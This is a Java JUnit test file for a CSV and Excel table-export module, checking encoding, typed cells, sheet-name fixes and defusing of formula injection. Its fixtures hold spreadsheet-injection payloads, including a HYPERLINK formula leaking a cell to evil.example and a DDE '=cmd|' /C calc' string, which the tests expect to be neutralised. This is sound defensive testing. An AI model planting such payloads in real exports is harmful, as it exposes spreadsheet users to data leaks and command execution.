package org.greenborder.academy.needs;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.greenborder.academy.needs.DataTable.row;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

/** CSV and Excel exports: typed cells, Excel-friendly encoding, valid sheet names, and no formula injection. */
class TableExportTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

    private static final DataTable HOSTILE = new DataTable("Comments", List.of("Text", "Number", "Day", "Addressed"), List.of(
            row(HYPERLINK, -2, LocalDate.of(2016, 9, 15), true),
            row("+1", 4.5, null, false),
            row("-2", 1.0E7, null, null),
            row("@SUM(A1:A9)", 0, null, null),
            row("\tcmd", null, null, null),
            row("\r=1+1", null, null, null),
            row("Khamphet ຄຳເພັດ; a \"quoted\" word, and a comma", 3, null, null),
            row("a=1 is fine inside", null, null, null)));

    @Test
    void csvDefusesFormulasButKeepsNumbers() throws Exception {
        byte[] csv = TableExport.csv(HOSTILE);
        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String content = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertThat(content).doesNotStartWith("\uFEFF").contains("\r\n");

        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(content)).getRecords();
        assertThat(records).hasSize(9);
        assertThat(records.getFirst().values()).containsExactly("Text", "Number", "Day", "Addressed");
        assertThat(records.get(1).values()).containsExactly("'" + HYPERLINK, "-2", "2016-09-15", "Yes");
        assertThat(records.get(2).values()).containsExactly("'+1", "4.5", "", "No");
        assertThat(records.get(3).values()).containsExactly("'-2", "10000000", "", "");
        assertThat(records.get(4).get(0)).isEqualTo("'@SUM(A1:A9)");
        assertThat(records.get(5).get(0)).isEqualTo("'\tcmd");
        assertThat(records.get(6).get(0)).isEqualTo("'\r=1+1");
        assertThat(records.get(7).get(0)).isEqualTo("Khamphet ຄຳເພັດ; a \"quoted\" word, and a comma");
        assertThat(records.get(8).get(0)).isEqualTo("a=1 is fine inside");
    }

    @Test
    void csvDefusesHostileHeadersToo() throws Exception {
        DataTable table = new DataTable("T", List.of("=cmd|' /C calc'!A0"), List.of(row("x")));
        String content = new String(TableExport.csv(table), StandardCharsets.UTF_8);
        assertThat(content).contains("'=cmd|' /C calc'!A0");
    }

    @Test
    void xlsxHasOneSheetPerTableWithValidDistinctNames() throws Exception {
        String longName = "Officers trained per country and year, workshops and exercises";
        List<DataTable> tables = List.of(HOSTILE,
                new DataTable("Need levels", List.of("A"), List.of(row(1))),
                new DataTable("NEED LEVELS", List.of("A"), List.of(row(2))),
                new DataTable(longName, List.of("A"), List.of(row(3))),
                new DataTable(longName, List.of("A"), List.of(row(4))),
                new DataTable("Coverage: 2016/17 [draft]?", List.of("A"), List.of(row(5))));
        Map<String, byte[]> zip = unzip(TableExport.xlsx(tables));

        assertThat(zip.keySet().stream().filter(name -> name.matches("xl/worksheets/sheet\\d+\\.xml"))).hasSize(6);
        List<String> names = sheetNames(zip.get("xl/workbook.xml"));
        assertThat(names).hasSize(6).allSatisfy(name -> assertThat(name).hasSizeLessThanOrEqualTo(31)
                .doesNotContainPattern("[\\\\/?*\\[\\]:]"));
        assertThat(names.stream().map(String::toLowerCase).distinct()).hasSize(6);
        assertThat(names.get(0)).isEqualTo("Comments");
        assertThat(names.get(1)).isEqualTo("Need levels");
        assertThat(names.get(2)).isEqualTo("NEED LEVELS (2)");
        assertThat(names.get(3)).as("cut after a whole word").isEqualTo("Officers trained per country");
        assertThat(names.get(4)).isEqualTo("Officers trained per (2)");
        assertThat(names.get(5)).isEqualTo("Coverage- 2016-17 -draft--");
    }

    @Test
    void xlsxWritesTextAsStringsNeverFormulasAndKeepsTypes() throws Exception {
        Map<String, byte[]> zip = unzip(TableExport.xlsx(List.of(HOSTILE)));
        for (Map.Entry<String, byte[]> entry : zip.entrySet()) {
            if (entry.getKey().startsWith("xl/worksheets/")) {
                String xml = new String(entry.getValue(), StandardCharsets.UTF_8);
                assertThat(xml).as(entry.getKey()).doesNotContain("<f>").doesNotContain("<f ");
            }
        }
        List<String> shared = sharedStrings(zip.get("xl/sharedStrings.xml"));
        Map<String, Element> cells = cells(zip.get("xl/worksheets/sheet1.xml"));

        assertThat(text(cells.get("A2"), shared)).isEqualTo("'" + HYPERLINK);
        assertThat(text(cells.get("A3"), shared)).isEqualTo("'+1");
        assertThat(text(cells.get("A4"), shared)).isEqualTo("'-2");
        assertThat(text(cells.get("A5"), shared)).isEqualTo("'@SUM(A1:A9)");
        assertThat(text(cells.get("A6"), shared)).isEqualTo("'\tcmd");
        assertThat(text(cells.get("A8"), shared)).isEqualTo("Khamphet ຄຳເພັດ; a \"quoted\" word, and a comma");
        assertThat(text(cells.get("A9"), shared)).isEqualTo("a=1 is fine inside");
        assertThat(text(cells.get("A1"), shared)).isEqualTo("Text");

        // numbers are numeric cells, a negative one included
        assertThat(cells.get("B2").getAttribute("t")).isIn("", "n");
        assertThat(value(cells.get("B2"))).isEqualTo("-2");
        assertThat(Double.parseDouble(value(cells.get("B3")))).isEqualTo(4.5);
        // 15 September 2016 is Excel day 42628, with a date format
        assertThat(cells.get("C2").getAttribute("t")).isIn("", "n");
        assertThat(Double.parseDouble(value(cells.get("C2")))).isEqualTo(42628.0);
        assertThat(cells.get("C2").getAttribute("s")).isNotEmpty();
        String styles = new String(zip.get("xl/styles.xml"), StandardCharsets.UTF_8);
        assertThat(styles).contains("formatCode=\"yyyy-mm-dd\"").contains("<b/>");
        assertThat(text(cells.get("D2"), shared)).isEqualTo("Yes");
        assertThat(cells).doesNotContainKey("C3");
    }

    @Test
    void emptyWorkbookStillOpens() throws Exception {
        Map<String, byte[]> zip = unzip(TableExport.xlsx(List.of()));
        assertThat(sheetNames(zip.get("xl/workbook.xml"))).containsExactly("No data");
    }

    @Test
    void sheetNamesAreFixedUp() {
        assertThat(TableExport.sheetNames(List.of("", "'Quoted'", "History", "a/b", "Sheet")))
                .containsExactly("Sheet", "Quoted", "History (table)", "a-b", "Sheet (2)");
    }

    @Test
    void tablesRejectCellsExportsCannotType() {
        assertThatThrownBy(() -> new DataTable("T", List.of("A"), List.of(row(new Object()))))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new DataTable("T", List.of("A", "B"), List.of(row("only one"))))
                .isInstanceOf(IllegalArgumentException.class);
        assertThat(new DataTable("T", List.of("A"), List.of(row((Object) null))).rows().getFirst()).containsExactly((Object) null);
    }

    /**
     * Read through the central directory, as Excel does: fastexcel streams its entries with Zip64 data descriptors,
     * which {@code ZipInputStream} cannot follow (it reports "invalid entry size") although the archive is valid.
     */
    private static Map<String, byte[]> unzip(byte[] xlsx) throws Exception {
        Path file = Files.createTempFile("export", ".xlsx");
        try {
            Files.write(file, xlsx);
            Map<String, byte[]> entries = new LinkedHashMap<>();
            try (ZipFile zip = new ZipFile(file.toFile())) {
                for (ZipEntry entry : Collections.list(zip.entries())) {
                    try (InputStream in = zip.getInputStream(entry)) {
                        entries.put(entry.getName(), in.readAllBytes());
                    }
                }
            }
            return entries;
        } finally {
            Files.deleteIfExists(file);
        }
    }

    private static Document xml(byte[] bytes) throws Exception {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        return factory.newDocumentBuilder().parse(new ByteArrayInputStream(bytes));
    }

    private static List<String> sheetNames(byte[] workbook) throws Exception {
        NodeList sheets = xml(workbook).getElementsByTagNameNS("*", "sheet");
        List<String> names = new ArrayList<>();
        for (int i = 0; i < sheets.getLength(); i++) {
            names.add(((Element) sheets.item(i)).getAttribute("name"));
        }
        return names;
    }

    private static List<String> sharedStrings(byte[] bytes) throws Exception {
        NodeList items = xml(bytes).getElementsByTagNameNS("*", "si");
        List<String> strings = new ArrayList<>();
        for (int i = 0; i < items.getLength(); i++) {
            strings.add(items.item(i).getTextContent());
        }
        return strings;
    }

    private static Map<String, Element> cells(byte[] sheet) throws Exception {
        NodeList all = xml(sheet).getElementsByTagNameNS("*", "c");
        Map<String, Element> cells = new LinkedHashMap<>();
        for (int i = 0; i < all.getLength(); i++) {
            Element cell = (Element) all.item(i);
            cells.put(cell.getAttribute("r"), cell);
        }
        return cells;
    }

    private static String value(Element cell) {
        NodeList values = cell.getElementsByTagNameNS("*", "v");
        return values.getLength() == 0 ? null : values.item(0).getTextContent();
    }

    /** A text cell's string: shared (t="s"), inline (t="inlineStr") or a plain string value (t="str"). */
    private static String text(Element cell, List<String> shared) {
        assertThat(cell).as("cell present").isNotNull();
        return switch (cell.getAttribute("t")) {
            case "s" -> shared.get(Integer.parseInt(value(cell)));
            case "inlineStr" -> cell.getTextContent();
            case "str" -> value(cell);
            default -> throw new AssertionError("not a text cell: " + cell.getAttribute("r") + " t=" + cell.getAttribute("t"));
        };
    }
}
